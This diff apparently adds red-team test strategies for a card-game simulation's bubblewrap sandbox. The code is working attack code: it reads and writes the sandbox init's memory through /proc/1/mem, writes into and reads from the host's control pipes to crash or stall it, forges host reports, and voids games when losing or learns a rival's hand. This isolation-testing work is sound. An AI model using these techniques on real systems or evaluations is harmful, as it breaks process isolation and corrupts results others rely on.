@@ -1,0 +1,212 @@
+# ruff: noqa: SIM115, RUF005, BLE001  (attack code: short-lived files, probes, broad catches)
+"""Hostile strategies of a second independent pass on ``--isolate`` (benchmarks/hostile_pass2).
+
+Each plays like a planner and reports on stderr (``HOSTILE <name>: ...``), which reaches the
+run's terminal marked as the guest's."""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+import time
+
+from sims.strategies.planner import Planner
+
+
+def say(name: str, text: str) -> None:
+    sys.stderr.write(f"HOSTILE {name}: {text}\n")
+    sys.stderr.flush()
+
+
+def _try(fn):
+    try:
+        return fn()
+    except Exception as exc:
+        return f"{type(exc).__name__}: {exc}"
+
+
+def _link(path):
+    return _try(lambda: os.readlink(path))
+
+
+class Pid1Probe(Planner):
+    """What of bwrap's pid 1 a game's process reaches: its fds (the host's control pipes)."""
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        out = {"self": os.getpid(), "pids": sorted(p for p in os.listdir("/proc") if p.isdigit())}
+        for pid in ("1", "2"):
+            out[pid] = {
+                "status": _try(lambda: [ln for ln in open(f"/proc/{pid}/status") if
+                                        ln.startswith(("Cap", "Name", "PPid", "Uid", "Seccomp"))]),
+                "fds": _try(lambda: {f: _link(f"/proc/{pid}/fd/{f}") for f in
+                                     os.listdir(f"/proc/{pid}/fd")}),
+                "mem": _try(lambda: os.open(f"/proc/{pid}/mem", os.O_RDWR)),
+            }
+        out["selffd"] = {f: _link(f"/proc/self/fd/{f}") for f in os.listdir("/proc/self/fd")}
+        say("Pid1Probe", json.dumps(out)[:3500])
+
+
+# ------------------------------------------------------------------ bwrap's pid 1
+# bwrap's pid 1 (its init, in the sandbox's pid namespace) keeps its standard streams: fd 0
+# is the read end of the worker's control pipe to the host, fd 1 the write end of the host's
+# reports. It runs as the same (namespace) user, with no seccomp and dumpable, so a game's
+# process can open /proc/1/fd/0 for writing and /proc/1/mem for reading and writing.
+CONTROL_IN = "/proc/1/fd/0"
+
+
+def crash_host(name: str) -> None:
+    """Write a line the host cannot parse into its control pipe: its json.loads raises, the
+    host dies, its pipes close, and the worker reads that as an end from outside."""
+    try:
+        fd = os.open(CONTROL_IN, os.O_WRONLY)
+        os.write(fd, b"not json\n")
+        os.close(fd)
+        say(name, "wrote a bad order into the host's control pipe via /proc/1/fd/0")
+    except OSError as exc:
+        say(name, f"blocked: {exc}")
+
+
+class HostCrash(Planner):
+    """Void every game as the machine's: crash the host on its first decision."""
+
+    def decide(self, view):
+        crash_host("HostCrash")
+        time.sleep(1)
+        return super().decide(view)
+
+
+class VoidWhenBehind(Planner):
+    """Choose which games count: play on, and crash the host (the game is replayed, then
+    called the machine's) only when behind the rival in the final round."""
+
+    def decide(self, view):
+        me = view.round_points[view.seat] if view.round_points else 0
+        best_rival = max((p for s, p in enumerate(view.round_points) if s != view.seat),
+                         default=0)
+        if view.final_round and best_rival > me:
+            say("VoidWhenBehind", f"seat {view.seat}: behind {me} to {best_rival}: voiding")
+            crash_host("VoidWhenBehind")
+            time.sleep(1)
+        return super().decide(view)
+
+
+def _pid1_scratch() -> int:
+    """An address in bwrap pid 1's memory no one uses: the lowest page of its stack VMA."""
+    for line in open("/proc/1/maps"):
+        if line.rstrip().endswith("[stack]"):
+            return int(line.split("-")[0], 16)
+    raise OSError("no stack in /proc/1/maps")
+
+
+MAGIC = b"HP2MEMO:"
+
+
+def pid1_read() -> dict:
+    fd = os.open("/proc/1/mem", os.O_RDONLY)
+    try:
+        data = os.pread(fd, 4096, _pid1_scratch())
+    finally:
+        os.close(fd)
+    if data.startswith(MAGIC):
+        end = data.index(b"\0", len(MAGIC))
+        return json.loads(data[len(MAGIC) : end])
+    return {}
+
+
+def pid1_write(memo: dict) -> None:
+    blob = MAGIC + json.dumps(memo).encode() + b"\0"
+    if len(blob) > 4096:
+        raise ValueError("memo too big")
+    fd = os.open("/proc/1/mem", os.O_RDWR)
+    try:
+        os.pwrite(fd, blob, _pid1_scratch())
+    finally:
+        os.close(fd)
+
+
+class Pid1Memory(Planner):
+    """Memory across games in bwrap pid 1's memory (its /tmp and /dev/shm are emptied, its
+    root read-only): counts games, and remembers each deal's opening hand by its face-up row;
+    in a paired study (pairing = "seatings") a deal seen before from the other seat tells
+    the hand the rival holds now."""
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        self.first = True
+
+    def decide(self, view):
+        if self.first:
+            self.first = False
+            try:
+                memo = pid1_read()
+                memo["games"] = memo.get("games", 0) + 1
+                key = repr(view.face_up)
+                deals = memo.setdefault("deals", {})
+                if key in deals and deals[key]["seat"] != view.seat:
+                    say("Pid1Memory", f"seat {view.seat}: deal seen before from seat "
+                        f"{deals[key]['seat']}; the rival's opening hand is {deals[key]['hand']}"
+                        f" tickets {deals[key]['held']} (mine now {list(view.hand)})")
+                deals.setdefault(key, {"seat": view.seat, "hand": list(view.hand),
+                                       "held": list(view.held_ids)})
+                while len(json.dumps(memo)) > 3500:
+                    deals.pop(next(iter(deals)))
+                pid1_write(memo)
+                say("Pid1Memory", f"game number {memo['games']} of this host (remembered)")
+            except Exception as exc:
+                say("Pid1Memory", f"blocked: {type(exc).__name__}: {exc}")
+        return super().decide(view)
+
+
+class StealOrders(Planner):
+    """Stall the run: a thread of the game's process reads the worker's orders to the host
+    from /proc/1/fd/0 (the 'end' that would have the host kill it among them), so the worker
+    waits for a report that never comes."""
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        import threading
+
+        def steal():
+            try:
+                fd = os.open(CONTROL_IN, os.O_RDONLY)
+            except OSError as exc:
+                say("StealOrders", f"blocked: {exc}")
+                return
+            while True:
+                data = os.read(fd, 65536)
+                if data:
+                    say("StealOrders", f"stole order {data[:80]!r}")
+
+        threading.Thread(target=steal, daemon=True).start()
+
+
+class ForgeReport(Planner):
+    """Write a host's report ({"exit": ...}) on the host's report pipe (/proc/1/fd/1)."""
+
+    def decide(self, view):
+        try:
+            fd = os.open("/proc/1/fd/1", os.O_WRONLY)
+            os.write(fd, b'{"exit": "signal 9", "by": "host"}\n')
+            os.close(fd)
+            say("ForgeReport", "wrote a forged report")
+        except OSError as exc:
+            say("ForgeReport", f"blocked: {exc}")
+        time.sleep(0.5)
+        return super().decide(view)
+
+
+class BadReport(Planner):
+    """Write a line that is not JSON on the host's report pipe: the worker's json.loads."""
+
+    def decide(self, view):
+        try:
+            fd = os.open("/proc/1/fd/1", os.O_WRONLY)
+            os.write(fd, b'not json\n')
+            os.close(fd)
+            say("BadReport", "wrote a report that is not JSON")
+        except OSError as exc:
+            say("BadReport", f"blocked: {exc}")
+        time.sleep(0.5)
+        return super().decide(view)
